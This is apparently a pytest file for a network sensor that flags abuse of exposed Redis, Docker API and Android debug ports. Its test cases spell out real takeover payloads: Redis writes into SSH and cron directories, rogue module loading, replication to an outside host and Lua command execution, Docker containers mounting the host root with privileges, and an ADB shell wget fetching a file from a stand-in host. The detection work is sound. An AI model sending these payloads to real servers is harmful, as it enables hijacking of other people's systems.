"""What open services are told, as their clients write it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.sensor.payloads.service_abuse import CONTROL, PORTS, TAKEOVER, ServiceAbuse

BOTH = CONTROL | TAKEOVER


def resp(*words: str) -> bytes:
    """A Redis command as an array of strings."""
    parts = [f"${len(word)}\r\n{word}\r\n" for word in words]
    return f"*{len(words)}\r\n{''.join(parts)}".encode()


def look(payload: bytes, port: int) -> int:
    return ServiceAbuse().look(payload, port)


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (("CONFIG", "SET", "dir", "/var/spool/cron"), BOTH),
        (("config", "set", "dir", "/root/.ssh"), BOTH),
        (("config", "set", "dir", "/home/web/.ssh"), BOTH),
        (("CONFIG", "SET", "dbfilename", "authorized_keys"), BOTH),
        (("CONFIG", "SET", "dbfilename", "exp.so"), BOTH),
        (("MODULE", "LOAD", "./exp.so"), BOTH),
        (("MODULE", "LOAD", "/usr/lib/redis/search.so"), CONTROL),
        (("SLAVEOF", "192.0.2.66", "6379"), CONTROL),
        (("SLAVEOF", "NO", "ONE"), 0),
        (("CONFIG", "SET", "maxmemory", "64mb"), CONTROL),
        (("CONFIG", "GET", "dir"), 0),
        (("SET", "dir", "/srv/data"), 0),
        (("GET", "config"), 0),
        (("EVAL", "return io.popen('id'):read()", "0"), BOTH),
        (("EVAL", "return redis.call('GET', KEYS[1])", "1", "a"), 0),
    ],
    ids=lambda value: "-".join(value).replace("/", "_") if isinstance(value, tuple) else "",
)
def test_redis(words: tuple[str, ...], expected: int) -> None:
    assert look(resp(*words), 6379) == expected
    assert look(" ".join(words).encode() + b"\r\n", 6379) == expected


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (b"GET /v1.24/containers/json HTTP/1.1\r\n\r\n", 0),
        (b"POST /v1.24/containers/create HTTP/1.1\r\n\r\n{}", CONTROL),
        (b"POST /containers/4f66/exec HTTP/1.1\r\n\r\n{}", CONTROL),
        (b'POST /containers/create HTTP/1.1\r\n\r\n{"HostConfig":{"Binds": ["/:/mnt"]}}', BOTH),
        (b'{"Image":"a","HostConfig":{"Binds":["/etc:/x"]}}', BOTH),
        (b'{"Privileged": true}', BOTH),
        (b'{"Binds":["/srv/web:/usr/share/nginx"],"Privileged":false}', 0),
    ],
    ids=range(7),
)
def test_docker(payload: bytes, expected: int) -> None:
    assert look(payload, 2375) == expected


def test_the_debuggers_shell() -> None:
    assert look(b"CNXN" + bytes(20) + b"host::\0", 5555) == 0
    assert look(b"OPEN" + bytes(20) + b"shell:ls\0", 5555) == CONTROL
    assert look(b"shell:cd /data/local/tmp; sh x\0", 5555) == BOTH
    assert look(b"shell:busybox wget http://192.0.2.66/x\0", 5555) == BOTH


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300), st.sampled_from(PORTS))
def test_no_bytes_make_it_fail_and_a_takeover_controls(payload: bytes, port: int) -> None:
    assert look(payload, port) in (0, CONTROL, BOTH)
